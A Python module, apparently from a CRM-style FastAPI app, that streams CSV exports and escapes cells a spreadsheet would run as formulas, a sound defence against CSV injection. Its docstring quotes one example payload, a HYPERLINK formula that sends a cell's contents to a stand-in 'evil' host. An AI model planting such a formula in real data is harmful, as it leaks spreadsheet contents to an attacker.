"""The CSV every export writes (contacts, opportunities, the dashboard): RFC 4180 lines
(``\\r\\n``), list values joined by ``;``, streamed, and no cell a spreadsheet would run
as a formula.

CSV injection (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets evaluate a
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, so a contact
named ``=HYPERLINK("http://evil/?"&A1, "Klick")`` would become a live formula in the
office of whoever opens the export. Such a cell is written with a single quote in front
(``'=HYPERLINK(...)``), which the spreadsheet shows as text; a plain number (``-5``,
``+12.50``) is no formula and stays as it is. Every line goes through :func:`csv_line`
or :func:`csv_text`, so no export can forget it. The contacts import takes the quote off
again (:func:`unescape_cell`), so an export imports as it was."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterable, Iterable, Sequence
from typing import Any

from fastapi.responses import StreamingResponse

FORMULA_START = frozenset("=+-@\t\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def escape_formula(value: str) -> str:
    """``value`` as a cell no spreadsheet evaluates: a ``'`` in front of a would-be
    formula, anything else unchanged."""
    if value and value[0] in FORMULA_START and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The value :func:`escape_formula` was given (for a cell read back from an export)."""
    if len(value) > 1 and value[0] == "'" and value[1] in FORMULA_START:
        return value[1:]
    return value


def cell(value: Any) -> Any:
    """A value as a CSV cell: lists joined by ``;``, none as empty."""
    if isinstance(value, list):
        return ";".join(str(v) for v in value)
    return "" if value is None else value


def _safe(values: Iterable[Any]) -> list[Any]:
    return [escape_formula(v) if isinstance(v, str) else v for v in values]


def csv_line(values: Iterable[Any]) -> str:
    """One CSV line (``\\r\\n`` at its end), formulas escaped."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(_safe(values))
    return buffer.getvalue()


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """CSV lines (``\\r\\n`` after each), formulas escaped."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(_safe(row) for row in rows)
    return buffer.getvalue()


class CsvResponse(StreamingResponse):
    """A streamed CSV download; as a route's ``response_class`` it documents the route's
    answer as ``text/csv`` in the OpenAPI document."""

    media_type = "text/csv"


def csv_response(lines: Iterable[str] | AsyncIterable[str], filename: str) -> CsvResponse:
    """A streamed CSV download named ``filename``."""
    return CsvResponse(
        lines,
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
